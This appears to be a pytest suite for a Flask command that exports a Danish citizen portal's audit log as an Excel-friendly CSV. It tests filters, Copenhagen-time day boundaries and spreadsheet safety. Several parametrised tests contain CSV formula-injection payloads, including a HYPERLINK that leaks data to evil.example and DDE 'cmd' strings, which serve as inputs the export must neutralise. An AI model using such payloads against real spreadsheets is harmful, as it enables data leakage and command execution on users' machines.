"""`flask audit export`: the full audit log as CSV for an auditor, filtered by citizen and by Danish days,
naming the staff, and safe to open in a spreadsheet: Danish Excel's dialect (`;`, UTF-8 with BOM) and
times it reads as times, on the Copenhagen clock and in UTC."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select

from portal import audit
from portal.audit import AuditEntry
from portal.auth.models import User
from portal.cli.audit import write_csv
from tests.factories import log_in, post_form

HEADER = (
    "id;occurred_at_copenhagen_time;occurred_at_utc;actor_id;actor_email;actor_name;actor_role;action;"
    "citizen_id;citizen_email;purpose;detail;request_id"
)
BOM = "\ufeff"
COPENHAGEN = ZoneInfo("Europe/Copenhagen")


def export(app, *args):
    """Run `flask audit export ARGS` the way an operator would."""
    return app.test_cli_runner().invoke(args=["audit", "export", *args])


def parse(text: str) -> list[dict[str, str]]:
    """Read the file as Danish Excel does: `;` between cells, after the byte order mark."""
    # CRLF is checked on the file itself: CliRunner's stdout turns it into \n.
    assert text.startswith((BOM + HEADER + "\r\n", BOM + HEADER + "\n")), "UTF-8 with BOM, `;` between cells"
    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM), newline=""), delimiter=";"))


def add(session, action, *, actor=None, citizen=None, purpose=None, at=None, **detail) -> AuditEntry:
    """An audit row written with the real `audit.record`, optionally at a chosen time."""
    entry = audit.record(
        session, action, actor=actor, citizen_id=citizen.id if citizen else None, purpose=purpose, **detail
    )
    if at is not None:
        entry.occurred_at = at
    session.commit()
    return entry


def ids(rows) -> list[int]:
    return [int(row["id"]) for row in rows]


@pytest.fixture
def people(make_caseworker, make_citizen):
    caseworker = make_caseworker(name="Sofie Sagsbehandler", email="sofie@example.test")
    anna = make_citizen(caseworker, name="Anna Holm", email="anna@example.test")
    bo = make_citizen(caseworker, name="Bo Berg", email="bo@example.test")
    return caseworker, anna, bo


def test_export_names_the_employee_and_the_citizen(app, session, people):
    # test that a row carries the header, the staff member's e-mail, name and role, and the citizen's e-mail
    caseworker, anna, _bo = people
    entry = add(
        session,
        "caseworker.citizen.viewed",
        actor=caseworker,
        citizen=anna,
        purpose="Sagsbehandling af din plan",
        section="plan",
    )
    result = export(app, "--citizen", "anna@example.test")
    assert result.exit_code == 0, result.output
    (row,) = parse(result.stdout)
    assert row == {
        "id": str(entry.id),
        "occurred_at_copenhagen_time": f"{entry.occurred_at.astimezone(COPENHAGEN):%Y-%m-%d %H:%M:%S}",
        "occurred_at_utc": f"{entry.occurred_at.astimezone(UTC):%Y-%m-%d %H:%M:%S}",
        "actor_id": str(caseworker.id),
        "actor_email": "sofie@example.test",
        "actor_name": "Sofie Sagsbehandler",
        "actor_role": "caseworker",
        "action": "caseworker.citizen.viewed",
        "citizen_id": str(anna.id),
        "citizen_email": "anna@example.test",
        "purpose": "Sagsbehandling af din plan",
        "detail": '{"section": "plan"}',
        "request_id": "",
    }
    assert "Exported 1 audit row(s)." in result.stderr
    assert "Exported" not in result.stdout, "the count goes to stderr, not into the CSV"


def test_rows_written_by_a_real_request_carry_the_request_id(app, client, session, people):
    # test that a caseworker's page view shows up in the export with actor and request id
    caseworker, anna, _bo = people
    log_in(client, caseworker.email)
    response = client.get(f"/caseworker/citizens/{anna.id}")
    assert response.status_code == 200
    rows = parse(export(app, "--citizen", anna.email).stdout)
    viewed = [row for row in rows if row["action"] == "caseworker.citizen.viewed"]
    assert len(viewed) == 1
    assert viewed[0]["actor_email"] == caseworker.email and viewed[0]["actor_name"] == "Sofie Sagsbehandler"
    assert viewed[0]["request_id"] == response.headers["X-Request-ID"]


def test_citizen_filter_gives_only_that_citizens_rows(app, session, people):
    """--citizen (any case) exports the rows about that citizen and nothing about anyone else."""
    caseworker, anna, bo = people
    about_anna = [
        add(session, "caseworker.citizen.viewed", actor=caseworker, citizen=anna, purpose="Sagsbehandling"),
        add(session, "plan.viewed", actor=anna, citizen=anna, purpose="Din plan"),
    ]
    add(session, "caseworker.citizen.viewed", actor=caseworker, citizen=bo, purpose="Sagsbehandling")
    add(session, "login.failed", reason="unknown_account")
    add(session, "caseworker.caseload.viewed", actor=caseworker, purpose="Sagsbehandling", citizens=2)
    result = export(app, "--citizen", "ANNA@Example.TEST")
    assert result.exit_code == 0, result.output
    rows = parse(result.stdout)
    assert ids(rows) == [entry.id for entry in about_anna]
    assert {row["citizen_email"] for row in rows} == {"anna@example.test"}
    assert "bo@example.test" not in result.stdout
    assert "Exported 2 audit row(s)." in result.stderr


def test_without_filters_every_row_is_exported_in_id_order(app, session, people):
    # test that the plain export holds all rows, oldest id first, including rows without actor or citizen
    caseworker, anna, bo = people
    made = [
        add(session, "caseworker.citizen.viewed", actor=caseworker, citizen=bo),
        add(session, "login.failed", reason="unknown_account"),
        add(session, "plan.viewed", actor=anna, citizen=anna),
    ]
    rows = parse(export(app).stdout)
    all_ids = list(session.scalars(select(AuditEntry.id).order_by(AuditEntry.id)))
    assert ids(rows) == all_ids
    assert [entry.id for entry in made] == [i for i in ids(rows) if i in {e.id for e in made}]
    anonymous = next(row for row in rows if int(row["id"]) == made[1].id)
    assert (
        anonymous["actor_id"],
        anonymous["actor_email"],
        anonymous["actor_name"],
        anonymous["actor_role"],
        anonymous["citizen_id"],
        anonymous["citizen_email"],
    ) == ("", "", "", "", "", "")


# --- period: whole days in Danish time ------------------------------------------------------------


@pytest.mark.parametrize(
    "day, inside, outside",
    [
        # Winter (CET, UTC+1): 2 March runs from 1 March 23:00 UTC to 2 March 23:00 UTC.
        (
            "2026-03-02",
            [
                datetime(2026, 3, 1, 23, 0, tzinfo=UTC),
                datetime(2026, 3, 1, 23, 30, tzinfo=UTC),
                datetime(2026, 3, 2, 22, 59, 59, tzinfo=UTC),
            ],
            [datetime(2026, 3, 1, 22, 59, 59, tzinfo=UTC), datetime(2026, 3, 2, 23, 0, tzinfo=UTC)],
        ),
        # Summer (CEST, UTC+2): 2 July runs from 1 July 22:00 UTC to 2 July 22:00 UTC.
        (
            "2026-07-02",
            [datetime(2026, 7, 1, 22, 0, tzinfo=UTC), datetime(2026, 7, 2, 21, 59, tzinfo=UTC)],
            [datetime(2026, 7, 1, 21, 59, tzinfo=UTC), datetime(2026, 7, 2, 22, 0, tzinfo=UTC)],
        ),
        # 29 March 2026 has 23 hours (clocks go forward): 28 March 23:00 UTC to 29 March 22:00 UTC.
        (
            "2026-03-29",
            [datetime(2026, 3, 28, 23, 0, tzinfo=UTC), datetime(2026, 3, 29, 21, 59, tzinfo=UTC)],
            [datetime(2026, 3, 28, 22, 59, tzinfo=UTC), datetime(2026, 3, 29, 22, 0, tzinfo=UTC)],
        ),
        # 25 October 2026 has 25 hours (clocks go back): 24 October 22:00 UTC to 25 October 23:00 UTC.
        (
            "2026-10-25",
            [datetime(2026, 10, 24, 22, 0, tzinfo=UTC), datetime(2026, 10, 25, 22, 59, tzinfo=UTC)],
            [datetime(2026, 10, 24, 21, 59, tzinfo=UTC), datetime(2026, 10, 25, 23, 0, tzinfo=UTC)],
        ),
    ],
)
def test_from_and_to_are_whole_danish_days(app, session, people, day, inside, outside):
    # test that --from D --to D exports exactly what happened on day D on a Copenhagen clock
    caseworker, anna, _bo = people
    wanted = [add(session, "plan.viewed", actor=caseworker, citizen=anna, at=at).id for at in inside]
    for at in outside:
        add(session, "plan.viewed", actor=caseworker, citizen=anna, at=at)
    result = export(app, "--from", day, "--to", day)
    assert result.exit_code == 0, result.output
    assert ids(parse(result.stdout)) == wanted
    assert f"Exported {len(wanted)} audit row(s)." in result.stderr


def test_late_evening_utc_belongs_to_the_next_danish_day(app, session, people):
    """An entry at 23:30 UTC on 1 March 2026 is 00:30 on 2 March in Denmark."""
    caseworker, anna, _bo = people
    entry = add(session, "plan.viewed", actor=caseworker, citizen=anna, at=datetime(2026, 3, 1, 23, 30, tzinfo=UTC))
    first = parse(export(app, "--from", "2026-03-01", "--to", "2026-03-01").stdout)
    second = parse(export(app, "--from", "2026-03-02", "--to", "2026-03-02").stdout)
    assert entry.id not in ids(first)
    assert ids(second) == [entry.id]
    assert (second[0]["occurred_at_copenhagen_time"], second[0]["occurred_at_utc"]) == (
        "2026-03-02 00:30:00",
        "2026-03-01 23:30:00",
    )


def test_open_ended_periods(app, session, people):
    # test that --from alone exports from that day on and --to alone up to and including that day
    caseworker, anna, _bo = people
    march = add(session, "plan.viewed", actor=caseworker, citizen=anna, at=datetime(2026, 3, 10, 12, tzinfo=UTC))
    april = add(session, "plan.viewed", actor=caseworker, citizen=anna, at=datetime(2026, 4, 10, 12, tzinfo=UTC))
    from_april = ids(parse(export(app, "--citizen", anna.email, "--from", "2026-04-01").stdout))
    to_march = ids(parse(export(app, "--citizen", anna.email, "--to", "2026-03-31").stdout))
    assert april.id in from_april and march.id not in from_april
    assert to_march == [march.id]


def test_citizen_and_period_combine(app, session, people):
    # test that --citizen and --from/--to together narrow to both
    caseworker, anna, bo = people
    wanted = add(session, "plan.viewed", actor=caseworker, citizen=anna, at=datetime(2026, 5, 5, 9, tzinfo=UTC))
    add(session, "plan.viewed", actor=caseworker, citizen=bo, at=datetime(2026, 5, 5, 9, tzinfo=UTC))
    add(session, "plan.viewed", actor=caseworker, citizen=anna, at=datetime(2026, 5, 6, 9, tzinfo=UTC))
    rows = parse(export(app, "--citizen", anna.email, "--from", "2026-05-05", "--to", "2026-05-05").stdout)
    assert ids(rows) == [wanted.id]


def test_a_period_without_rows_gives_only_the_header(app, session, people):
    # test that an empty period still writes the header and says 0 rows
    result = export(app, "--from", "2001-01-01", "--to", "2001-01-31")
    assert result.exit_code == 0
    assert result.stdout_bytes == b"\xef\xbb\xbf" + HEADER.encode() + b"\r\n"
    assert "Exported 0 audit row(s)." in result.stderr


def test_times_are_dates_a_spreadsheet_reads_on_the_danish_clock_and_in_utc(app, session, people):
    # test that summer and winter times are given as Danish wall-clock time, and the hour that happens
    # twice when summer time ends is told apart by the UTC column
    caseworker, anna, _bo = people
    moments = [
        datetime(2026, 1, 15, 8, 5, 9, 123456, tzinfo=UTC),
        datetime(2026, 7, 15, 8, 5, 9, tzinfo=UTC),
        datetime(2026, 10, 25, 0, 30, tzinfo=UTC),  # 02:30 summer time
        datetime(2026, 10, 25, 1, 30, tzinfo=UTC),  # 02:30 again, winter time
    ]
    for at in moments:
        add(session, "plan.viewed", actor=caseworker, citizen=anna, at=at)
    rows = parse(export(app, "--citizen", anna.email).stdout)
    assert [(row["occurred_at_copenhagen_time"], row["occurred_at_utc"]) for row in rows] == [
        ("2026-01-15 09:05:09", "2026-01-15 08:05:09"),
        ("2026-07-15 10:05:09", "2026-07-15 08:05:09"),
        ("2026-10-25 02:30:00", "2026-10-25 00:30:00"),
        ("2026-10-25 02:30:00", "2026-10-25 01:30:00"),
    ]


# --- spreadsheet safety ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "purpose",
    [
        '=HYPERLINK("https://evil.example/?leak="&A1,"Klik her")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ],
)
def test_formula_in_purpose_is_neutralised(app, session, people, purpose):
    # test that a purpose a spreadsheet would run as a formula is exported with a leading apostrophe
    caseworker, anna, _bo = people
    add(session, "plan.viewed", actor=caseworker, citizen=anna, purpose=purpose)
    (row,) = parse(export(app, "--citizen", anna.email).stdout)
    assert row["purpose"] == "'" + purpose


def test_formula_in_staff_name_is_neutralised(app, session, make_caseworker, make_citizen):
    # test that an employee's name starting with = cannot run as a formula in the export
    evil = make_caseworker(name="=cmd|' /C calc'!A0")
    citizen = make_citizen(evil)
    add(session, "caseworker.citizen.viewed", actor=evil, citizen=citizen, purpose="Sagsbehandling")
    (row,) = parse(export(app, "--citizen", citizen.email).stdout)
    assert row["actor_name"] == "'=cmd|' /C calc'!A0"


def test_ordinary_text_is_exported_unchanged(app, session, people):
    # test that commas, quotes, line breaks, Danish letters and inner minus signs survive the round trip as they are
    caseworker, anna, _bo = people
    purpose = 'Møde om "plan", økonomi;\nnæste skridt - 2 uger'
    add(session, "plan.viewed", actor=caseworker, citizen=anna, purpose=purpose, note="=not-a-cell")
    (row,) = parse(export(app, "--citizen", anna.email).stdout)
    assert row["purpose"] == purpose
    assert json.loads(row["detail"]) == {"note": "=not-a-cell"}


def test_formula_in_citizen_email_is_neutralised(app, client, session, make_caseworker):
    # test that an e-mail typed by a caseworker cannot put a formula into the auditor's spreadsheet
    caseworker = make_caseworker()
    log_in(client, caseworker.email)
    email = "=1+2|cmd@example.dk"
    added = post_form(
        client,
        "/caseworker/invitations/new",
        {"name": "Formel Borger", "cpr_number": "0202021234", "email": email},
        page_url="/caseworker/invitations/new",
    )
    assert added.status_code == 200 and "Giv borgeren linket" in added.get_data(as_text=True)
    assert session.scalar(select(User).where(User.email == email)) is not None
    rows = parse(export(app, "--citizen", email).stdout)
    assert rows, "the invitation was audited"
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@")), cell


# --- output file and errors ---------------------------------------------------------------------


def test_output_file_holds_the_csv(app, session, people, tmp_path):
    # test that --output writes the CSV (UTF-8 with BOM, `;`, CRLF) to the file and nothing of it to stdout
    caseworker, anna, _bo = people
    entry = add(session, "plan.viewed", actor=caseworker, citizen=anna, purpose="Økonomi og æbler")
    target = tmp_path / "revision.csv"
    result = export(app, "--citizen", anna.email, "--output", str(target))
    assert result.exit_code == 0, result.output
    assert result.stdout == ""
    assert "Exported 1 audit row(s)." in result.stderr
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf" + HEADER.encode() + b"\r\n")
    rows = parse(raw.decode("utf-8"))
    assert ids(rows) == [entry.id] and rows[0]["purpose"] == "Økonomi og æbler"


@pytest.mark.parametrize("email", ["nobody@example.test", "sofie@example.test"])
def test_unknown_citizen_is_an_error(app, people, tmp_path, email):
    # test that an e-mail that is no citizen (unknown, or a caseworker's) stops the export and writes no file
    target = tmp_path / "out.csv"
    result = export(app, "--citizen", email, "--output", str(target))
    assert result.exit_code != 0
    assert f"no citizen with e-mail or id {email}" in result.output
    assert "Exported" not in result.output
    assert not target.exists()


def test_to_before_from_is_an_error(app, tmp_path):
    # test that a reversed period is refused with a message
    target = tmp_path / "out.csv"
    result = export(app, "--from", "2026-03-02", "--to", "2026-03-01", "--output", str(target))
    assert result.exit_code != 0
    assert "--to is before --from" in result.output
    assert not target.exists()


@pytest.mark.parametrize("value", ["1.3.2026", "2026-02-30", "i går", ""])
def test_badly_written_dates_are_refused(app, value):
    # test that --from takes only real YYYY-MM-DD dates
    result = export(app, "--from", value)
    assert result.exit_code == 2
    assert "--from" in result.output and "Exported" not in result.output


def test_write_csv_returns_the_number_of_rows(app, session, people):
    # test the function behind the command: filters by citizen and Danish days and counts what it wrote
    caseworker, anna, bo = people
    add(session, "plan.viewed", actor=caseworker, citizen=anna, at=datetime(2026, 6, 1, 10, tzinfo=UTC))
    add(session, "plan.viewed", actor=caseworker, citizen=bo, at=datetime(2026, 6, 1, 10, tzinfo=UTC))
    buffer = io.StringIO(newline="")
    with app.app_context():
        citizen = session.get(User, anna.id)
        written = write_csv(buffer, citizen=citizen, start=date(2026, 6, 1), end=date(2026, 6, 1))
    rows = parse(buffer.getvalue())
    assert written == len(rows) == 1
    assert rows[0]["citizen_email"] == "anna@example.test"


def test_a_citizen_without_an_e_mail_is_named_by_account_id(app, session, people):
    # test that a citizen added by CPR number alone (no e-mail) can still be exported, by id
    caseworker, anna, bo = people
    add(session, "caseworker.citizen.viewed", actor=caseworker, citizen=anna)
    add(session, "caseworker.citizen.viewed", actor=caseworker, citizen=bo)
    anna.email = None
    session.commit()
    rows = parse(export(app, "--citizen", str(anna.id)).stdout)
    assert [row["citizen_id"] for row in rows] == [str(anna.id)]
